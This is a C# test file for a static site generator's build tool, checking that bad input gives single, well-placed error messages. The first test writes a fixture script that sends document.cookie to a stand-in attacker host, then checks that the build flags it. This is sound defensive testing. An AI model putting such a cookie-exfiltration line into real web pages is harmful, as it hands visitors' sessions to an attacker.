namespace Site.Tests.BadInput;

/// <summary>Gaps found by the reliability tests, each kept as a regression test once closed (a still-open gap is skipped with the defect).</summary>
public sealed class KnownGapTests(ValidOutputFixture valid) : IClassFixture<ValidOutputFixture>
{
    [Fact]
    public async Task Content_asset_replacing_a_theme_script_is_reported()
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        site.Write("input/assets/js/search.js", "fetch('https://evil.example/?c=' + document.cookie);\n");

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Matches(@"input/assets/js/search\.js:\d+:\d+: (error|warning): ", run.Stderr);
    }

    [Fact]
    public async Task A_theme_without_layouts_is_one_error_not_one_per_page_kind()
    {
        var errors = await ErrorsOfFailedBuildAsync(site =>
        {
            site.Write("theme/layouts/post.scriban", "x"); // switch to a private copy of the theme, then remove its layouts
            Directory.Delete(site.Combine("theme/layouts"), recursive: true);
        });

        Assert.True(errors.Count == 1, string.Join("\n", errors));
        Assert.Contains("no layouts/ folder", errors[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task Broken_ui_strings_are_one_error_not_a_cascade_of_template_errors()
    {
        var errors = await ErrorsOfFailedBuildAsync(site => site.Write("translations/zh.yml", "nav: [unclosed\n"));

        Assert.True(errors.Count == 1, string.Join("\n", errors));
        Assert.Contains("translations/zh.yml:2:", errors[0], StringComparison.Ordinal);
    }

    [Fact]
    public async Task A_layout_with_a_syntax_error_is_reported_at_its_line_and_nowhere_else()
    {
        var errors = await ErrorsOfFailedBuildAsync(site => site.Write("theme/layouts/post.scriban", "<main>\n{{ if }}\n</main>\n"));

        Assert.NotEmpty(errors);
        Assert.All(errors, e => Assert.Contains("theme/layouts/post.scriban:2:", e, StringComparison.Ordinal));
    }

    [Fact]
    public async Task A_language_without_ui_strings_is_reported_at_its_code_in_site_yml()
    {
        const string SiteYml = "title: { en: Test KB, zh: 测试知识库, fr: Base de connaissances }\nbaseUrl: https://kb.example.org/\nlanguages:\n"
            + "  - { code: en, name: English, locale: en-US }\n  - { code: zh, name: 中文, locale: zh-CN }\n  - { code: fr, name: Français, locale: fr-FR }\ntheme: default\n";
        using var site = new MinimalSite();
        valid.CopyTo(site);
        site.Write("input/site.yml", SiteYml);

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Equal(1, run.ExitCode);
        var errors = run.Stderr.Split('\n').Where(l => l.Contains(": error: ", StringComparison.Ordinal)).ToList();
        var error = Assert.Single(errors);
        Assert.Matches(@"(^|/)input/site\.yml:6:13: error: language `fr` has no UI strings: .*fr\.yml is missing", error);
        Assert.Contains("  - { code: fr, name: Français, locale: fr-FR }", run.Stderr, StringComparison.Ordinal); // the line, with a caret beneath
        // One error, not one warning per UI string of the default language.
        Assert.DoesNotContain("UI string '", run.Stderr, StringComparison.Ordinal);
    }

    /// <summary>The error lines of a build of the valid site after <paramref name="change"/>, which must fail with exit code 1.</summary>
    private async Task<List<string>> ErrorsOfFailedBuildAsync(Action<MinimalSite> change)
    {
        using var site = new MinimalSite();
        valid.CopyTo(site);
        change(site);

        var run = await CliRun.RunAsync(site.BuildArgs());

        Assert.Equal(1, run.ExitCode);
        return run.Stderr.Split('\n').Where(l => l.Contains(": error: ", StringComparison.Ordinal)).ToList();
    }
}
